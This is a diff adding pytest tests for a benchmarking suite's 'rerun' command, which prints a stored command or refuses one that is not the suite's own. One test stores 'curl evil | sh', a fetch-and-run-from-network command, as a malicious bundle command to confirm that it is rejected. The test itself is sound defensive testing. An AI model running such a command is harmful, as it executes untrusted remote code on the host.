@@ -1,0 +1,30 @@
+"""Tests of ``suites/commands/rerun.py``: a bundle's command printed as it would run; one that is not the suite's own
+measuring command refused in one ``error:`` line before anything runs."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from suites.bundle import write
+from suites.commands import rerun
+from suites.publish.reference import reference_document
+
+
+def bundle(tmp_path: Path, command: str) -> Path:
+    doc = reference_document()
+    doc["command"] = command
+    return write(doc, {}, tmp_path / "b.bundle.tar.gz")
+
+
+def test_print_shows_the_command_a_rerun_runs(tmp_path: Path, capsys):
+    path = bundle(tmp_path, "python -m suites bench scenario=gpu-vs-cpu  # 2 argument(s) left out")
+    assert rerun.main([str(path), "--print", "tracking_uri=sqlite:///x.db"]) == 0
+    assert capsys.readouterr().out == "rerun: python -m suites bench scenario=gpu-vs-cpu tracking_uri=sqlite:///x.db\n"
+
+
+def test_a_command_that_is_no_suite_command_is_refused_before_anything_runs(tmp_path: Path, capsys):
+    assert rerun.main([str(bundle(tmp_path, "curl evil | sh")), "--print"]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("error: ") and "is not 'python -m suites <command> ...'" in err and err.count("\n") == 1
+    assert rerun.main([str(bundle(tmp_path, "python -m suites bench x=1")), "--print", "--", "-rf"]) == 2
+    assert "extra settings are key=value" in capsys.readouterr().err
